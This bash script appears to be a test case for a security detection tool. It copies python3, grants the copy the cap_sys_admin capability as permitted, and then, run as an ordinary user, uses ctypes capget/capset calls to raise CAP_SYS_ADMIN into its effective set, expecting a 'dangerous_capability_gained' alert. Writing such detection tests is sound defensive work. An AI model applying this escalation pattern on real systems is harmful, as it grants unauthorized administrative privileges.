#!/bin/bash
# desc: a program given cap_sys_admin as permitted only (setcap cap_sys_admin+p) raises it into its effective set
# with capset once an ordinary user runs it
# mitre: T1548, T1068
# expect: dangerous_capability_gained
source "$ATTACK_LIB"

cp /usr/bin/python3 "$ATTACK_TMP/py"
setcap cap_sys_admin+p "$ATTACK_TMP/py"
as_user "$ATTACK_TMP/py" - <<'PY'
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class Header(ctypes.Structure):
    _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]
class Data(ctypes.Structure):
    _fields_ = [("effective", ctypes.c_uint32), ("permitted", ctypes.c_uint32),
                ("inheritable", ctypes.c_uint32)]
hdr = Header(0x20080522, 0)
data = (Data * 2)()
assert libc.capget(ctypes.byref(hdr), data) == 0
data[0].effective |= 1 << 21  # CAP_SYS_ADMIN
assert libc.capset(ctypes.byref(hdr), data) == 0, ctypes.get_errno()
PY
